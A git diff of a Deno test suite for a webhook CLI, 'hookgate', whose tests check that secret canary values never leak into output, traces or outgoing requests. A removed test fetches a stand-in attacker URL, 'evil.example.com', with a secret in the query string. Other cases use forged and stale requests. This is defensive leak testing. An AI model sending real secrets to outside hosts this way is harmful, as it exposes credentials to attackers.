@@ -5,228 +5,30 @@
  */
 import assert from "node:assert/strict";
 import { createHmac } from "node:crypto";
-import { cliCommand, type CliResult, runCli } from "../support/cli.ts";
+import { runCli } from "../support/cli.ts";
 import { closedPort, startRecordingServer } from "../support/recording_server.ts";
 import { startServe } from "../support/serve_process.ts";
-import { git, makeTempRepo } from "../support/temp_repo.ts";
-
-function randomText(bytes: number): string {
-  const raw = crypto.getRandomValues(new Uint8Array(bytes));
-  return btoa(String.fromCharCode(...raw)).replace(/[+/=]/g, "").slice(0, Math.ceil(bytes * 1.3));
-}
-
-/** At least 16 bytes, so every command accepts it as a secret. */
-const CANARY = "cnry" + randomText(30);
-const TOKEN_CANARY = "tkcn" + randomText(30);
-const PREVIOUS_CANARY = "prev" + randomText(30);
-const ROUTE_CANARY = "rtcn" + randomText(30);
-/** Too short to be accepted: the error must name the variable, not print this. */
-const SHORT_CANARY = randomText(9);
-const ALL_CANARIES = [CANARY, TOKEN_CANARY, PREVIOUS_CANARY, ROUTE_CANARY, SHORT_CANARY];
-
-const ENV = {
-  WEBHOOK_SECRET: CANARY,
-  HOOKGATE_TOKEN_SECRET: TOKEN_CANARY,
-  GITHUB_WEBHOOK_SECRET: ROUTE_CANARY,
-};
-
-/** Forms in which a leaked canary could appear. */
-function leakForms(canary: string): string[] {
-  return [canary, encodeURIComponent(canary), btoa(canary).slice(0, 24)];
-}
-
-function assertNoCanary(label: string, ...texts: string[]): void {
-  for (const text of texts) {
-    for (const canary of ALL_CANARIES) {
-      for (const form of leakForms(canary)) {
-        assert.ok(!text.includes(form), `${label}: a canary leaked:\n${text}`);
-      }
-    }
-  }
-}
-
-/**
- * Runs a command that must stop by itself (a refused start-up); one that is still running
- * after `timeoutMs` is stopped and reported as exit -1, so a regression fails, not hangs.
- */
-async function runBounded(
-  args: string[],
-  options: { env: Record<string, string>; cwd: string },
-  timeoutMs = 15_000,
-): Promise<CliResult> {
-  const child = cliCommand(args, options).spawn();
-  const timer = setTimeout(() => child.kill("SIGKILL"), timeoutMs);
-  try {
-    const { code, success, signal, stdout, stderr } = await child.output();
-    const decoder = new TextDecoder();
-    return {
-      code: signal === null || success ? code : -1,
-      stdout: decoder.decode(stdout),
-      stderr: decoder.decode(stderr),
-    };
-  } finally {
-    clearTimeout(timer);
-  }
-}
-
-function assertResultClean(label: string, result: CliResult): void {
-  assertNoCanary(`${label} (stdout)`, result.stdout);
-  assertNoCanary(`${label} (stderr)`, result.stderr);
-}
-
-/**
- * A response's body as far as it came: after a 413 serve drops the connection once the
- * answer's one chunk is out, which a reader of the whole body sees as an error.
- */
-async function textUntilClosed(response: Response): Promise<string> {
-  const decoder = new TextDecoder();
-  let text = "";
-  try {
-    for await (const chunk of response.body ?? []) text += decoder.decode(chunk, { stream: true });
-  } catch {
-    // the connection ended after the answer
-  }
-  return text;
-}
-
-/** Every file under a directory (trace files, stores), as text, for the canary search. */
-async function filesUnder(dir: string): Promise<Map<string, string>> {
-  const files = new Map<string, string>();
-  const walk = async (path: string) => {
-    for await (const entry of Deno.readDir(path)) {
-      const full = `${path}/${entry.name}`;
-      if (entry.isDirectory) await walk(full);
-      else if (entry.isFile && /trace|\.jsonl|\.log/.test(entry.name)) {
-        files.set(full, await Deno.readTextFile(full));
-      }
-    }
-  };
-  try {
-    await walk(dir);
-  } catch (error) {
-    if (!(error instanceof Deno.errors.NotFound)) throw error;
-  }
-  return files;
-}
-
-function tomorrow(): string {
-  return new Date(Date.now() + 86_400_000).toISOString().replace(/\.\d{3}Z$/, "Z");
-}
-
-/** Commands whose --help offers --trace: their trace files are checked line by line. */
-async function tracingCommands(): Promise<Set<string>> {
-  const names = ["serve", "send", "fetch"];
-  const helps = await Promise.all(names.map((name) => runCli([name, "--help"])));
-  return new Set(names.filter((_, i) => helps[i]?.stdout.includes("--trace")));
-}
-
-const TRACING = await tracingCommands();
-
-function traceLines(path: string): Record<string, unknown>[] {
-  const text = Deno.readTextFileSync(path);
-  assertNoCanary(`trace ${path}`, text);
-  return text.split("\n").filter((line) => line !== "").map((line) => {
-    const record = JSON.parse(line);
-    assert.equal(typeof record.time, "string", line);
-    return record;
-  });
-}
-
-function sign(body: string, ts: number, secret: string): string {
-  return createHmac("sha256", secret).update(`${ts}.${body}`).digest("hex");
-}
-
-interface Exchange {
-  label: string;
-  init: RequestInit;
-  path?: string;
-}
-
-function deliveries(): Exchange[] {
-  const now = Math.floor(Date.now() / 1000);
-  const good = JSON.stringify({ id: "canary-good", event: "push", note: "hello" });
-  const withCanary = JSON.stringify({ id: "canary-echo", token: CANARY, note: `x ${CANARY}` });
-  const headers = (body: string, ts: number, secret = CANARY) => ({
-    "content-type": "application/json",
-    "x-timestamp": String(ts),
-    "x-signature": sign(body, ts, secret),
-  });
-  return [
-    { label: "good", init: { method: "POST", body: good, headers: headers(good, now) } },
-    {
-      label: "good, again (duplicate)",
-      init: { method: "POST", body: good, headers: headers(good, now) },
-    },
-    {
-      label: "good, signed with the previous (rotated) secret",
-      init: {
-        method: "POST",
-        body: good.replace("canary-good", "canary-previous"),
-        headers: headers(good.replace("canary-good", "canary-previous"), now, PREVIOUS_CANARY),
-      },
-    },
-    {
-      label: "good, a payload holding the canary",
-      init: { method: "POST", body: withCanary, headers: headers(withCanary, now) },
-    },
-    {
-      label: "forged (signed with another secret)",
-      init: {
-        method: "POST",
-        body: good,
-        headers: headers(good, now, "not-the-secret-0123456789"),
-      },
-    },
-    {
-      label: "forged, the canary as the signature",
-      init: {
-        method: "POST",
-        body: good,
-        headers: { "x-timestamp": String(now), "x-signature": CANARY },
-      },
-    },
-    {
-      label: "stale (10 minutes old)",
-      init: { method: "POST", body: good, headers: headers(good, now - 600) },
-    },
-    {
-      label: "from the future",
-      init: { method: "POST", body: good, headers: headers(good, now + 600) },
-    },
-    { label: "unsigned", init: { method: "POST", body: good } },
-    {
-      label: "malformed timestamp",
-      init: { method: "POST", body: good, headers: { "x-timestamp": "12ab", "x-signature": "00" } },
-    },
-    {
-      label: "malformed JSON, correctly signed",
-      init: { method: "POST", body: "{not json", headers: headers("{not json", now) },
-    },
-    {
-      label: "a JSON array, correctly signed",
-      init: { method: "POST", body: "[1,2]", headers: headers("[1,2]", now) },
-    },
-    {
-      label: "too large",
-      init: { method: "POST", body: "x".repeat(2_000_000), headers: headers("x", now) },
-    },
-    {
-      label: "the canary in a bearer header to the inspection API",
-      path: "/events",
-      init: { method: "GET", headers: { authorization: `Bearer ${CANARY}` } },
-    },
-    {
-      label: "the canary as a query string on an unknown path",
-      path: `/nope?token=${CANARY}&secret=${CANARY}`,
-      init: { method: "GET" },
-    },
-    { label: "wrong method", init: { method: "GET" } },
-    { label: "health check", path: "/healthz", init: { method: "GET" } },
-  ];
-}
+import { git, tempRepo } from "../support/temp_repo.ts";
+import {
+  assertNoCanary,
+  assertResultClean,
+  CANARY,
+  canaryDir,
+  deliveries,
+  ENV,
+  filesUnder,
+  PREVIOUS_CANARY,
+  ROUTE_CANARY,
+  runBounded,
+  SHORT_CANARY,
+  textUntilClosed,
+  TOKEN_CANARY,
+  tomorrow,
+} from "../support/canary.ts";
 
 Deno.test("canary: serve answers good, forged, stale and malformed requests without leaking", async () => {
-  const cwd = await Deno.makeTempDir({ prefix: "hookgate-canary-" });
+  await using dir = await canaryDir();
+  const cwd = dir.path;
   const server = await startServe({
     env: { ...ENV, WEBHOOK_SECRET_PREVIOUS: `${PREVIOUS_CANARY}@${tomorrow()}` },
     cwd,
@@ -279,7 +81,8 @@ Deno.test("canary: serve answers good, forged, stale and malformed requests with
 });
 
 Deno.test("canary: send (accepted, refused, unreachable) leaks nothing", async () => {
-  const cwd = await Deno.makeTempDir({ prefix: "hookgate-canary-" });
+  await using dir = await canaryDir();
+  const cwd = dir.path;
   const server = await startServe({ env: ENV, cwd });
   const recorder = startRecordingServer(() =>
     new Response(`{"error":"nope"}`, {
@@ -288,16 +91,17 @@ Deno.test("canary: send (accepted, refused, unreachable) leaks nothing", async (
     })
   );
   try {
-    const runs: [string, string[]][] = [
-      ["accepted", ["send", `${server.url}/webhook`, "--data", '{"event":"push"}']],
-      ["a payload holding the canary", [
+    // Each run with whether send must succeed: a run that fails for another reason proves nothing.
+    const runs: [string, boolean, string[]][] = [
+      ["accepted", true, ["send", `${server.url}/webhook`, "--data", '{"event":"push"}']],
+      ["a payload holding the canary", true, [
         "send",
         `${server.url}/webhook`,
         "--data",
         JSON.stringify({ note: CANARY }),
       ]],
-      ["refused 500 with retries", ["send", recorder.url, "--data", "{}", "--retries", "1"]],
-      ["unreachable", [
+      ["refused 500 with retries", false, ["send", recorder.url, "--data", "{}", "--retries", "1"]],
+      ["unreachable", false, [
         "send",
         `http://127.0.0.1:${closedPort()}/webhook`,
         "--data",
@@ -305,7 +109,7 @@ Deno.test("canary: send (accepted, refused, unreachable) leaks nothing", async (
         "--retries",
         "0",
       ]],
-      ["a URL with the canary as password", [
+      ["a URL with the canary as password", false, [
         "send",
         `http://u:${CANARY}@127.0.0.1:${closedPort()}/?token=${CANARY}`,
         "--data",
@@ -313,11 +117,12 @@ Deno.test("canary: send (accepted, refused, unreachable) leaks nothing", async (
         "--retries",
         "0",
       ]],
-      ["not a JSON object", ["send", `${server.url}/webhook`, "--data", "[1]"]],
+      ["not a JSON object", false, ["send", `${server.url}/webhook`, "--data", "[1]"]],
     ];
-    for (const [label, args] of runs) {
+    for (const [label, succeeds, args] of runs) {
       const result = await runCli(args, { env: ENV, cwd });
       assertResultClean(`send ${label}`, result);
+      assert.equal(result.code === 0, succeeds, `send ${label}: exit ${result.code}`);
     }
     const secretInRecorder = recorder.requests.some((request) =>
       new TextDecoder().decode(request.body).includes(CANARY) ||
@@ -333,7 +138,8 @@ Deno.test("canary: send (accepted, refused, unreachable) leaks nothing", async (
 });
 
 Deno.test("canary: a denied and a failed fetch leak nothing", async () => {
-  const cwd = await Deno.makeTempDir({ prefix: "hookgate-canary-" });
+  await using dir = await canaryDir();
+  const cwd = dir.path;
   const port = closedPort();
   const env = {
     ...ENV,
@@ -356,7 +162,8 @@ Deno.test("canary: a denied and a failed fetch leak nothing", async () => {
 });
 
 Deno.test("canary: init and doctor leak neither the old secrets nor the new ones", async () => {
-  const repo = await makeTempRepo();
+  await using repoDir = await tempRepo();
+  const repo = repoDir.path;
   Deno.writeTextFileSync(`${repo}/.env`, `HOOKGATE_TOKEN_SECRET=${TOKEN_CANARY}\n`, {
     mode: 0o600,
   });
@@ -387,7 +194,8 @@ Deno.test("canary: init and doctor leak neither the old secrets nor the new ones
     assert.ok(!text.includes(fresh));
   }
 
-  const placeholder = await Deno.makeTempDir({ prefix: "hookgate-canary-" });
+  await using placeholderDir = await canaryDir();
+  const placeholder = placeholderDir.path;
   Deno.writeTextFileSync(`${placeholder}/.env`, `WEBHOOK_SECRET=${SHORT_CANARY}\n`, {
     mode: 0o644,
   });
@@ -397,7 +205,8 @@ Deno.test("canary: init and doctor leak neither the old secrets nor the new ones
 });
 
 Deno.test("canary: every configuration error names the variable, never the value", async () => {
-  const cwd = await Deno.makeTempDir({ prefix: "hookgate-canary-" });
+  await using dir = await canaryDir();
+  const cwd = dir.path;
   const runs: [string, string[], Record<string, string>][] = [
     ["serve, short secret", ["serve", "--port", "0"], { WEBHOOK_SECRET: SHORT_CANARY }],
     ["serve, no secret", ["serve", "--port", "0"], { HOOKGATE_TOKEN_SECRET: TOKEN_CANARY }],
@@ -495,7 +304,8 @@ Deno.test("canary: redact --secrets-from-env and token leak nothing", async () =
 });
 
 Deno.test("canary: rotate prints neither the old secret nor the new one", async () => {
-  const cwd = await Deno.makeTempDir({ prefix: "hookgate-canary-" });
+  await using dir = await canaryDir();
+  const cwd = dir.path;
   Deno.writeTextFileSync(
     `${cwd}/.env`,
     `WEBHOOK_SECRET=${CANARY}\nGITHUB_WEBHOOK_SECRET=${ROUTE_CANARY}\n`,
@@ -519,72 +329,4 @@ Deno.test("canary: rotate prints neither the old secret nor the new one", async 
   }
   const bad = await runCli(["rotate", "--var", "NO_SUCH_SECRET"], { cwd });
   assertResultClean("rotate of a missing variable", bad);
-});
-
-Deno.test({
-  name: "canary: serve's trace holds a valid line per request and no canary",
-  ignore: !TRACING.has("serve"),
-  async fn() {
-    const cwd = await Deno.makeTempDir({ prefix: "hookgate-canary-" });
-    const trace = `${cwd}/serve-trace.jsonl`;
-    const server = await startServe({ env: ENV, cwd, args: ["--trace", trace] });
-    const exchanges = deliveries();
-    try {
-      for (const exchange of exchanges) {
-        const response = await fetch(`${server.url}${exchange.path ?? "/webhook"}`, exchange.init);
-        await response.body?.cancel();
-      }
-    } finally {
-      await server.stop();
-    }
-    const records = traceLines(trace);
-    // Refusals of one reason within a second share one record that counts them.
-    const described = records.reduce((sum, record) => sum + (Number(record.count) || 1), 0);
-    assert.ok(described >= exchanges.length, `${described} requests in the trace`);
-    const requests = records.filter((record) => record.type === "request");
-    assert.ok(requests.length > 0, "request records in the trace");
-    for (const record of requests) {
-      assert.equal(record.remoteAddress, "127.0.0.1");
-    }
-  },
-});
-
-Deno.test({
-  name: "canary: send's trace records each attempt and no canary",
-  ignore: !TRACING.has("send"),
-  async fn() {
-    const cwd = await Deno.makeTempDir({ prefix: "hookgate-canary-" });
-    const trace = `${cwd}/send-trace.jsonl`;
-    const url = `http://u:${CANARY}@127.0.0.1:${closedPort()}/?token=${CANARY}`;
-    const args = ["send", url, "--data", JSON.stringify({ note: CANARY }), "--retries", "1"];
-    assertResultClean("send", await runCli([...args, "--trace", trace], { env: ENV, cwd }));
-    assert.ok(traceLines(trace).length >= 2, "one line per attempt");
-  },
-});
-
-Deno.test({
-  name: "canary: fetch's trace records a denial and a failure and no canary",
-  ignore: !TRACING.has("fetch"),
-  async fn() {
-    const cwd = await Deno.makeTempDir({ prefix: "hookgate-canary-" });
-    const trace = `${cwd}/fetch-trace.jsonl`;
-    const port = closedPort();
-    const env = {
-      ...ENV,
-      EGRESS_ALLOW_HOSTS: `http://localhost:${port}`,
-      EGRESS_ALLOW_PRIVATE: "localhost",
-    };
-    for (
-      const url of [
-        `https://evil.example.com/?token=${CANARY}`,
-        `http://localhost:${port}/?sig=${CANARY}`,
-      ]
-    ) {
-      assertResultClean(
-        `fetch ${url}`,
-        await runCli(["fetch", url, "--trace", trace], { env, cwd }),
-      );
-    }
-    assert.ok(traceLines(trace).length >= 2, "one line per fetch");
-  },
 });
